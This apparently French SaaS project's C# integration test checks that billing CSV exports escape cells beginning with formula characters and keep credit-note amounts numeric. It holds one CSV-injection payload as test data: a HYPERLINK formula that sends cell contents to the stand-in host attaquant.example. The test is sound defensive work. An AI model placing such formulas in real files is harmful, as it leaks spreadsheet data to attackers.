using System.Net;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using SommeNumerique.Saas.Infrastructure.Persistence;
using SommeNumerique.Saas.Web.Tests.Api.Billing;
using SommeNumerique.Saas.Web.Tests.Infrastructure;
using static SommeNumerique.Saas.Web.Tests.Api.SubscriptionTestApi;

namespace SommeNumerique.Saas.Web.Tests.Api.Treasury;

/// <summary>
/// Issue 11, item 10: a text cell starting with = + - @ (or a tab, a carriage return) is escaped with a leading quote,
/// so that a spreadsheet shows it instead of running it as a formula; amounts stay numbers, negative ones included.
/// </summary>
public sealed class CsvInjectionApiTests(SqliteApp app) : IClassFixture<SqliteApp>
{
    private const string Formula = "=HYPERLINK(\"https://attaquant.example/?d=\"&A1;\"Cliquez\")";

    [Fact]
    public async Task A_tenant_name_written_as_a_formula_is_escaped_and_amounts_stay_numbers()
    {
        var staff = await app.Factory.StaffAsync();
        var tenant = await app.Factory.TenantIdByCodeAsync("80280");
        using (var scope = app.Factory.Services.CreateScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SaasDbContext>();
            (await db.Tenants.SingleAsync(t => t.Id == Guid.Parse(tenant))).Rename(Formula);
            await db.SaveChangesAsync();
        }
        await staff.SubscribeAsync(Request("DEMAT-FLUX-COMPTABLES", 1, new DateOnly(2025, 1, 1), tenant));
        var run = (await staff.StartRunAsync("2025")).Str("id")!;
        await staff.IssueAsync(run);
        var invoice = (await staff.InvoicesAsync(tenant, "2025")).Single();
        await (await staff.PostJsonAsync($"/api/v1/invoices/{invoice.Str("id")}/credit-notes", new { reason = "-1 erreur" }))
            .ReadJsonAsync(HttpStatusCode.Created);

        var runCsv = FrenchCsv.Parse(await staff.GetByteArrayAsync($"/api/v1/billing-runs/{run}/exports/csv"));
        var listCsv = FrenchCsv.Parse(await staff.GetByteArrayAsync("/api/v1/invoices/exports/csv?period=2025"));
        foreach (var csv in new[] { runCsv, listCsv })
        {
            var names = csv.Rows.Select(r => csv.Text(r, "Collectivité")).Where(n => n.Contains("HYPERLINK")).ToList();
            Assert.NotEmpty(names);
            Assert.All(names, n => Assert.Equal("'" + Formula, n));
        }

        // The credit note's rows are negative numbers, not escaped text: the list nets to zero.
        var rows = listCsv.Rows.Where(r => listCsv.Text(r, "Collectivité").Contains("HYPERLINK")).ToList();
        var negative = rows.Where(r => listCsv.Text(r, "Pièce") != "Facture").Select(r => listCsv.Text(r, "Montant TTC")).ToList();
        Assert.NotEmpty(negative);
        Assert.All(negative, a => Assert.Matches("^-[0-9]+,[0-9]{2}$", a));
        Assert.Equal(0m, rows.Sum(r => listCsv.Amount(r, "Montant TTC")));
    }
}
